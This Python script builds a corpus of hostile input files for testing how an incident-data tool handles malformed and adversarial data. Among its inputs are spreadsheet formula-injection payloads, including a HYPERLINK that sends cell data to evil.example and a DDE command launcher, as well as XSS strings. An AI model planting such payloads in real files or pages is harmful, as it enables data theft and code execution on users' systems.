"""Generate the hostile-input corpus: files a careless or hostile user might feed frontier.

Each :class:`Case` is one input file plus the number of incident rows it holds
(``None`` when the only right answer is a clear refusal, exit status 2).  The
expected counts are written down by hand from how each file is built, never
computed by the code under test.

Covers every finding of issue 12 (failed writes are tested separately by the
test, with a real file-size limit) and the encodings and structures that already
worked.  Run as a script to write the files into a folder::

    python tests/hostile/make_corpus.py /tmp/corpus
"""

from __future__ import annotations

import codecs
import gzip
import io
import json
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HEADER = "id,date,location,latitude,longitude,fatalities,notes"
GOOD = [
    "A1,2025-10-12,Torkham,34.1147,71.0847,3,clash at the crossing",
    "A2,2025-10-13,Chaman,30.9210,66.4597,1,",
    "A3,2025-10-15,Spin Boldak,,,0,shelling",
]
PASHTO = [
    "P1,2025-10-12,تورخم,34.1147,71.0847,2,ډزې",
    "P2,2025-10-14,چمن,30.9210,66.4597,0,د پولې نښته",
    "P3,2025-10-16,Peshāwar,34.0080,71.5785,1,Urdu: پشاور",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already escaped",
]


@dataclass(frozen=True)
class Case:
    """One hostile input: file name, bytes, and the incident rows it holds (None: refuse)."""

    name: str
    filename: str
    data: bytes
    rows: int | None
    note: str = ""


def _csv(lines: list[str], *, newline: str = "\n", end: bool = True) -> str:
    return newline.join(lines) + (newline if end else "")


def _text_cases() -> list[Case]:
    good = _csv([HEADER, *GOOD])
    pashto = _csv([HEADER, *PASHTO])
    cases = [
        Case("utf8", "utf8.csv", good.encode(), 3),
        Case("utf8_bom", "utf8_bom.csv", codecs.BOM_UTF8 + good.encode(), 3),
        Case("utf8_pashto", "pashto.csv", pashto.encode(), 3),
        Case("utf8_bom_pashto", "pashto_bom.csv", codecs.BOM_UTF8 + pashto.encode(), 3),
        Case("utf16_bom", "utf16.csv", pashto.encode("utf-16"), 3),
        Case("utf16_le_no_bom", "utf16le.csv", pashto.encode("utf-16-le"), 3),
        Case("utf16_be_no_bom", "utf16be.csv", pashto.encode("utf-16-be"), 3),
        Case("utf16_le_ascii_no_bom", "utf16le_ascii.csv", good.encode("utf-16-le"), 3),
        Case("utf32_bom", "utf32.csv", pashto.encode("utf-32"), 3),
        Case(
            "cp1252",
            "cp1252.csv",
            _csv([HEADER, "C1,2025-10-12,Peshâwar,34.0,71.5,1,“quoted” – dash"]).encode("cp1252"),
            1,
        ),
        Case(
            "latin1_undefined_cp1252",
            "latin1.csv",
            (HEADER + "\nL1,2025-10-12,Pesh\x81war,34.0,71.5,1,x\n").encode("latin-1"),
            1,
        ),
        Case(
            "utf8_with_stray_cp1252_byte",
            "mixed.csv",
            pashto.encode().replace(
                "ډزې".encode(),
                "ډزې \x92quote\x92".encode("cp1252", "ignore")
                if False
                else "ډزې ".encode() + b"\x92q\x92",
            ),
            3,
        ),
        Case(
            "invalid_utf8_only",
            "badbytes.csv",
            HEADER.encode() + b"\nX1,2025-10-12,\xff\xfe\xfa,,,1,\xc3\n",
            1,
        ),
        Case("crlf", "crlf.csv", _csv([HEADER, *GOOD], newline="\r\n").encode(), 3),
        Case("cr_only", "cr.csv", _csv([HEADER, *GOOD], newline="\r").encode(), 3),
        Case("no_final_newline", "nofinal.csv", _csv([HEADER, *GOOD], end=False).encode(), 3),
        Case(
            "blank_lines",
            "blank.csv",
            (HEADER + "\n\n" + GOOD[0] + "\n   \n\n" + GOOD[1] + "\n\n").encode(),
            2,
        ),
        Case(
            "tab_in_csv",
            "tab.csv",
            _csv([r.replace(",", "\t") for r in [HEADER, *GOOD]]).encode(),
            3,
        ),
        Case(
            "pipe_in_csv",
            "pipe.csv",
            _csv([r.replace(",", "|") for r in [HEADER, *GOOD]]).encode(),
            3,
        ),
        Case(
            "semicolon_decimal_comma",
            "semi.csv",
            b"id;location;latitude;longitude\nS1;Torkham;34,1147;71,0847\nS2;Chaman;30,92;66,46\n",
            2,
        ),
        Case("tsv", "data.tsv", _csv([r.replace(",", "\t") for r in [HEADER, *GOOD]]).encode(), 3),
        Case("one_column", "onecol.csv", b"location\nTorkham\nChaman\nKabul\n", 3),
        Case("header_only", "header.csv", (HEADER + "\n").encode(), 0),
        Case("empty_file", "empty.csv", b"", None),
        Case("only_blank_lines", "blanks.csv", b"\n\n   \n\r\n", None),
        Case("ragged_short", "short.csv", (HEADER + "\nR1,2025-10-12,Torkham\nR2\n").encode(), 2),
        Case(
            "ragged_long",
            "long.csv",
            (HEADER + "\n" + GOOD[0] + ",extra1,extra2\n" + GOOD[1] + "\n").encode(),
            2,
        ),
        Case(
            "duplicate_headers",
            "duphead.csv",
            b"location,location,latitude,latitude\nTorkham,Chaman,34.1,30.9\n",
            1,
        ),
        Case("empty_headers", "emptyhead.csv", b",location,,\n1,Torkham,a,b\n2,Chaman,,\n", 2),
        Case(
            "wide_2500_columns",
            "wide.csv",
            (
                ",".join(["location", *[f"c{i}" for i in range(2500)]])
                + "\nTorkham,"
                + ",".join("x" * 2500)
                + "\n"
            ).encode(),
            1,
        ),
        Case(
            "field_200k",
            "bigfield.csv",
            ("location,notes\nTorkham," + "A" * 200_000 + "\n").encode(),
            1,
        ),
        Case(
            "rows_2000",
            "many.csv",
            (
                "location,latitude,longitude\n"
                + "".join(f"Torkham,34.{i % 90:02d},71.08\n" for i in range(2000))
            ).encode(),
            2000,
        ),
        Case(
            "unclosed_quote_eof",
            "q.csv",
            b'id,location,source\nA,Torkham,"Wire\nB,Chaman,x\nC,Spin Boldak,y\n',
            None,
        ),
        Case(
            "unclosed_quote_closed_later",
            "q2.csv",
            b'id,location,source\nA,Torkham,"Wire\nB,Chaman,x\nC,"Spin Boldak",y\nD,Kabul,z\n',
            None,
        ),
        Case(
            "multiline_quoted_notes",
            "multiline.csv",
            b'id,location,notes\nM1,Torkham,"line one\nline two"\nM2,Chaman,"a\r\nb"\n',
            2,
        ),
        Case(
            "bare_cr_in_quotes",
            "barecr.csv",
            b'id,location,notes\nB1,Torkham,"before\rafter"\nB2,Chaman,x\n',
            2,
        ),
        Case("doubled_quotes", "dq.csv", b'id,location,notes\nD1,Torkham,"he said ""stop"""\n', 1),
        Case(
            "stray_quote_in_field",
            "stray.csv",
            b'id,location,notes\nS1,Tor"kham,x"y\nS2,Chaman,ok\n',
            2,
        ),
        Case("formula_injection", "formula.csv", _formula_csv().encode(), len(FORMULAS)),
        Case(
            "html_injection",
            "html.csv",
            b'location,notes\n"<script>alert(1)</script>","<img src=x onerror=alert(2)>"\n'
            b'Torkham,"</textarea><b>x</b>"\n',
            2,
        ),
        Case(
            "control_chars",
            "ctrl.csv",
            b"location,notes\nTork\x01ham,a\x07b\x1bc\nChaman,\x0c\x0b\n",
            2,
        ),
        Case("nul_byte", "nul.csv", b"location,notes\nTorkham,a\x00b\n", None),
        Case(
            "bad_numbers",
            "nums.csv",
            b"location,latitude,longitude,fatalities\nA,1e309,71,many\nB,NaN,inf,3-5\nC,0,0,-5\nD,91,181,1e20\nE,34.1,,2\n",
            5,
        ),
        Case(
            "bad_dates",
            "dates.csv",
            b"location,date\nA,2025-13-45\nB,09/10/2025\nC,31/12/9999\nD,1677-01-01\nE,yesterday\nF,2025-10-12T10:30:00+05:00\n",
            6,
        ),
        Case("duplicate_ids", "dupid.csv", b"id,location\nX,Torkham\nX,Chaman\n,Kabul\n", 3),
        Case(
            "all_missing_cells",
            "allmissing.csv",
            (HEADER + "\n,,,,,,x\nNA,n/a,null,-,?,unknown,\n").encode(),
            2,
        ),
        Case("whitespace_cells", "ws.csv", b"location,notes\n   ,  \n Torkham , x \n", 1),
        Case("long_location", "longloc.csv", ("location\n" + "Torkham " * 5000 + "\n").encode(), 1),
        Case(
            "emoji_zwj_rtl",
            "emoji.csv",
            "location,notes\nTorkham 🇦🇫‍🔥,\u202eevil\u202c\nچمن\u200d,e\u0301\n".encode(),
            2,
        ),
        Case("acled_layout", "acled.csv", _acled().encode(), 2),
        Case("ucdp_layout", "ucdp.csv", _ucdp().encode(), 1),
        Case("unicode_filename", "ملف بيانات (1).csv", good.encode(), 3),
        Case("dash_filename", "-o.csv", good.encode(), 3),
        Case("newline_in_filename", "new\nline.csv", good.encode(), 3),
        Case("json_named_csv", "jsonish.csv", b'[{"location":"Torkham"}]\n', 1),
        Case(
            "html_named_csv",
            "page.csv",
            b"<html><body><table><tr><td>Torkham</td></tr></table></body></html>\n",
            0,
        ),
    ]
    return cases


def _formula_csv() -> str:
    buf = io.StringIO()
    import csv

    w = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL)  # quotes the bare CR
    w.writerow(["id", "location", "notes", "=1+1 header"])
    for i, f in enumerate(FORMULAS):
        w.writerow([f"F{i}", "Torkham" if i % 2 else f, f, "-12.5"])
    return buf.getvalue()


def _acled() -> str:
    cols = (
        "event_id_cnty,event_date,year,time_precision,event_type,sub_event_type,actor1,actor2,"
        "country,admin1,admin2,location,latitude,longitude,geo_precision,source,notes,fatalities"
    )
    rows = [
        "PAK1,12 October 2025,2025,1,Battles,Armed clash,Military Forces of Pakistan,Taliban,"
        "Pakistan,Khyber Pakhtunkhwa,Khyber,Torkham,34.1147,71.0847,1,Dawn,=cmd|x,3",
        "AFG2,13 October 2025,2025,1,Battles,Armed clash,Taliban,,Afghanistan,Kandahar,"
        "Spin Boldak,Spin Boldak,31.0049,66.3997,2,TOLO,,0",
    ]
    return _csv([cols, *rows])


def _ucdp() -> str:
    cols = (
        "id,year,type_of_violence,side_a,side_b,date_start,date_end,where_coordinates,"
        "where_prec,latitude,longitude,country,adm_1,adm_2,best,source_article"
    )
    row = (
        "1,2025,1,Government of Pakistan,TTP,2025-10-12,2025-10-13,Torkham,1,34.1147,71.0847,"
        "Pakistan,KP,Khyber,3,@evil"
    )
    return _csv([cols, row])


def _binary_cases() -> list[Case]:
    good = _csv([HEADER, *GOOD]).encode()
    xlsx = _xlsx([[HEADER.split(","), *[g.split(",") for g in GOOD]]])
    return [
        Case("gzip_named_csv", "g.csv", gzip.compress(good), 3),
        Case(
            "gzip_utf16_named_csv",
            "g16.csv",
            gzip.compress(_csv([HEADER, *PASHTO]).encode("utf-16")),
            3,
        ),
        Case("xlsx_named_csv", "x.csv", xlsx, 3),
        Case(
            "png_named_csv",
            "img.csv",
            b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256)),
            None,
        ),
        Case(
            "pdf_named_csv",
            "doc.csv",
            b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
            None,
        ),
        Case("jpeg_named_csv", "img2.csv", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(100), None),
        Case("zip_named_csv", "archive.csv", _zip({"data.csv": good}), None),
        Case("random_binary", "random.csv", bytes((i * 37 + 11) % 256 for i in range(4096)), None),
        Case("elf_named_csv", "prog.csv", b"\x7fELF\x02\x01\x01" + bytes(200), None),
        Case("truncated_gzip", "trunc.csv", gzip.compress(good)[:20], None),
        Case("gzip_of_png", "gpng.csv", gzip.compress(b"\x89PNG\r\n\x1a\n" + bytes(64)), None),
        Case("sqlite_named_csv", "db.csv", _gpkg_bytes(), None),
        Case("text_named_xlsx", "text.xlsx", good, None),
        Case("text_named_gpkg", "text.gpkg", good, None),
        Case("text_named_parquet", "text.parquet", good, None),
        Case("truncated_parquet", "trunc.parquet", b"PAR1 not really parquet", None),
        Case("truncated_gpkg", "trunc.gpkg", b"SQLite format 3\x00" + bytes(100), None),
    ]


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _xlsx(
    sheets: list[list[list[object]]], *, names: list[str] | None = None, merge: str | None = None
) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    for k, rows in enumerate(sheets):
        ws = wb.active if k == 0 else wb.create_sheet()
        ws.title = (names or [f"Sheet{i + 1}" for i in range(len(sheets))])[k]
        for row in rows:
            ws.append(row)
        if merge and k == len(sheets) - 1:
            ws.merge_cells(merge)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _gpkg_bytes(columns: dict[str, list[object]] | None = None, *, name: str = "t") -> bytes:
    import tempfile

    import geopandas as gpd

    columns = columns or {"location": ["Torkham", "Chaman"]}
    gdf = gpd.GeoDataFrame(
        columns, geometry=gpd.points_from_xy([71.0847, 66.4597], [34.1147, 30.921]), crs=4326
    )
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / f"{name}.gpkg"
        gdf.to_file(path, driver="GPKG", engine="pyogrio")
        return path.read_bytes()


def _excel_cases() -> list[Case]:
    header = ["location", "x", "latitude", "longitude"]
    return [
        Case(
            "xlsx_simple",
            "simple.xlsx",
            _xlsx([[header, ["Torkham", 1, 34.1147, 71.0847], ["Chaman", 2, 30.921, 66.4597]]]),
            2,
        ),
        Case(
            "xlsx_cover_sheet_first",
            "cover.xlsx",
            _xlsx(
                [[["Incident report 2025"]], [header, ["Torkham", 1, 34.1, 71.1]]],
                names=["Cover", "Data"],
            ),
            None,
        ),
        Case(
            "xlsx_formulas_no_cache",
            "formula.xlsx",
            _xlsx(
                [[header, ["Torkham", "=2+3", "=34.1147", "=71.0847"], ["Chaman", 1, 30.9, 66.4]]]
            ),
            2,
        ),
        Case(
            "xlsx_merged",
            "merged.xlsx",
            _xlsx(
                [
                    [
                        header,
                        ["Torkham", 1, 34.1, 71.1],
                        [None, 2, 34.2, 71.2],
                        ["Chaman", 3, 30.9, 66.4],
                    ]
                ],
                merge="A2:A3",
            ),
            3,
        ),
        Case(
            "xlsx_injection_text",
            "inj.xlsx",
            _xlsx(
                [
                    [
                        ["location", "notes"],
                        *[["Torkham", f] for f in FORMULAS if not f.startswith("\r")],
                    ]
                ]
            ),
            len(FORMULAS) - 1,
        ),
        Case("xlsx_header_only", "head.xlsx", _xlsx([[header]]), 0),
        Case("xlsx_empty", "empty.xlsx", _xlsx([[]]), None),
        Case(
            "xlsx_dates_numbers",
            "typed.xlsx",
            _xlsx(
                [
                    [
                        ["date", "location", "fatalities"],
                        [_dt(), "Torkham", 3.0],
                        ["2025-10-13", "Chaman", None],
                    ]
                ]
            ),
            2,
        ),
        Case(
            "xlsx_two_data_sheets",
            "two.xlsx",
            _xlsx([[header, ["Torkham", 1, 34.1, 71.1]], [header, ["Chaman", 2, 30.9, 66.4]]]),
            1,
        ),
    ]


def _dt():
    from datetime import datetime

    return datetime(2025, 10, 12)


def _fc(features: list[dict], **extra: object) -> bytes:
    return json.dumps({"type": "FeatureCollection", **extra, "features": features}).encode()


def _feat(geometry: object, **props: object) -> dict:
    return {"type": "Feature", "properties": props, "geometry": geometry}


def _json_cases() -> list[Case]:
    pt = {"type": "Point", "coordinates": [71.0847, 34.1147]}
    deep = b"[" * 100_000 + b"]" * 100_000
    return [
        Case(
            "geojson_points",
            "points.geojson",
            _fc([_feat(pt, location="Torkham"), _feat(None, location="Chaman")]),
            2,
        ),
        Case(
            "geojson_single_feature",
            "one.geojson",
            json.dumps(_feat(pt, location="Torkham")).encode(),
            1,
        ),
        Case(
            "json_records",
            "r.json",
            b'[{"location":"Torkham"},{"location":"Chaman","latitude":30.9,"longitude":66.4}]',
            2,
        ),
        Case(
            "geojson_empty_point",
            "emptypt.geojson",
            _fc(
                [
                    _feat({"type": "Point", "coordinates": []}, location="Torkham"),
                    _feat(pt, location="x"),
                ]
            ),
            2,
        ),
        Case(
            "geojson_one_position_line",
            "line1.geojson",
            _fc([_feat({"type": "LineString", "coordinates": [[71.0, 34.0]]}, location="Torkham")]),
            1,
        ),
        Case(
            "geojson_polygon",
            "poly.geojson",
            _fc(
                [
                    _feat(
                        {
                            "type": "Polygon",
                            "coordinates": [[[71, 34], [71.1, 34], [71.1, 34.1], [71, 34]]],
                        },
                        location="box",
                    )
                ]
            ),
            1,
        ),
        Case(
            "geojson_unclosed_ring",
            "ring.geojson",
            _fc(
                [
                    _feat(
                        {"type": "Polygon", "coordinates": [[[71, 34], [71.1, 34]]]}, location="bad"
                    )
                ]
            ),
            1,
        ),
        Case(
            "geojson_string_coords",
            "strc.geojson",
            _fc([_feat({"type": "Point", "coordinates": ["a", "b"]}, location="bad")]),
            1,
        ),
        Case(
            "geojson_collection",
            "gc.geojson",
            _fc([_feat({"type": "GeometryCollection", "geometries": [pt]}, location="gc")]),
            1,
        ),
        Case(
            "geojson_huge_coords",
            "huge.geojson",
            b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"location":"x"},"geometry":{"type":"Point","coordinates":[1e400,-1e400]}}]}',
            1,
        ),
        Case(
            "geojson_unknown_crs",
            "crs.geojson",
            _fc(
                [_feat(pt, location="Torkham")],
                crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::999999"}},
            ),
            None,
        ),
        Case(
            "geojson_epsg3857_crs",
            "crs3857.geojson",
            _fc(
                [
                    _feat(
                        {"type": "Point", "coordinates": [7913000.0, 4043000.0]}, location="Torkham"
                    )
                ],
                crs={"type": "name", "properties": {"name": "EPSG:3857"}},
            ),
            1,
        ),
        Case("json_deep_nesting", "deep.json", deep, None),
        Case("geojson_truncated", "trunc.geojson", _fc([_feat(pt, location="Torkham")])[:40], None),
        Case("json_scalar", "scalar.json", b"42", None),
        Case(
            "geojson_lone_surrogate",
            "surr.geojson",
            b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"location":"Tor\\ud800kham","notes":"\\udfff"},"geometry":null}]}',
            1,
        ),
        Case("geojson_empty_collection", "none.geojson", _fc([]), 0),
        Case(
            "geojson_features_not_list",
            "fnl.geojson",
            b'{"type":"FeatureCollection","features":{"a":1}}',
            None,
        ),
        Case(
            "geojson_null_properties",
            "nullprops.geojson",
            _fc([{"type": "Feature", "properties": None, "geometry": pt}]),
            1,
        ),
        Case(
            "geojson_nested_properties",
            "nested.geojson",
            _fc([_feat(pt, location="Torkham", tags=["a", {"b": [1, 2]}], meta={"x": None})]),
            1,
        ),
        Case(
            "geojson_utf16",
            "u16.geojson",
            _fc([_feat(pt, location="تورخم")]).decode().encode("utf-16"),
            1,
        ),
        Case(
            "geojson_formula_props",
            "fprops.geojson",
            _fc([_feat(pt, location=f, notes=f) for f in FORMULAS]),
            len(FORMULAS),
        ),
    ]


def _own_outputs() -> list[Case]:
    """Tables in the project's own positioned format (what geocode writes)."""
    import tempfile

    import geopandas as gpd
    import pandas as pd

    from incidents.io import write
    from incidents.schema import ACCOUNTING, CORE, GEOCODE, POSITION, coerce

    frame = pd.DataFrame(
        {
            "incident_id": ["O1", "O2", "O3"],
            "date": ["2025-10-12", "2025-10-13", None],
            "location": ["Torkham", '=HYPERLINK("x")', "Chaman"],
            "latitude": [34.1147, 30.921, None],
            "longitude": [71.0847, 66.4597, None],
            "geocode_method": ["input", "input", "unresolved"],
            "side": ["PK", "PK", None],
            "notes": ["a\rb", "-1+2", "@x"],
            "Date": ["dup", "dup", "dup"],
            "review_flags": ["", "", ""],
        }
    )
    frame = coerce(frame, {**CORE, **GEOCODE, **POSITION, **ACCOUNTING})
    gdf = gpd.GeoDataFrame(
        frame, geometry=gpd.points_from_xy(frame["longitude"], frame["latitude"]), crs=4326
    )
    out = []
    with tempfile.TemporaryDirectory() as d:
        for ext in ("csv", "geojson", "gpkg", "parquet"):
            path = write(gdf, Path(d) / f"positioned.{ext}")
            out.append(Case(f"own_positioned_{ext}", path.name, path.read_bytes(), 3))
        legacy = frame.rename(columns={"review_flags": "flags"})
        path = write(legacy, Path(d) / "legacy_flags.csv")
        out.append(Case("own_positioned_legacy_flags", path.name, path.read_bytes(), 3))
    gp = _gpkg_bytes({"Date": ["2025-10-12", "x"], "NOTES": ["=1+1", "y"], "Location": ["a", "b"]})
    out.append(Case("gpkg_schema_names_other_case", "gpkg_input.gpkg", gp, 2))
    out.append(Case("gpkg_plain", "plain.gpkg", _gpkg_bytes(), 2))
    buf = io.BytesIO()
    pd.DataFrame(
        {"location": ["Torkham", "Chaman"], "latitude": [34.1, None], "longitude": [71.1, None]}
    ).to_parquet(buf)
    out.append(Case("parquet_plain", "plain.parquet", buf.getvalue(), 2))
    return out


BUILDERS: tuple[Callable[[], list[Case]], ...] = (
    _text_cases,
    _binary_cases,
    _excel_cases,
    _json_cases,
    _own_outputs,
)


def cases() -> list[Case]:
    """Every case of the corpus, names unique."""
    out = [c for build in BUILDERS for c in build()]
    names = [c.name for c in out]
    assert len(names) == len(set(names)), "case names must be unique"
    return out


def write_corpus(folder: Path) -> list[tuple[Case, Path]]:
    """Write every case into its own sub-folder of ``folder``; returns (case, path)."""
    written = []
    for case in cases():
        sub = folder / case.name
        sub.mkdir(parents=True, exist_ok=True)
        path = sub / case.filename
        path.write_bytes(case.data)
        written.append((case, path))
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for case, path in write_corpus(target):
        print(f"{case.rows if case.rows is not None else 'refuse':>6}  {path}")
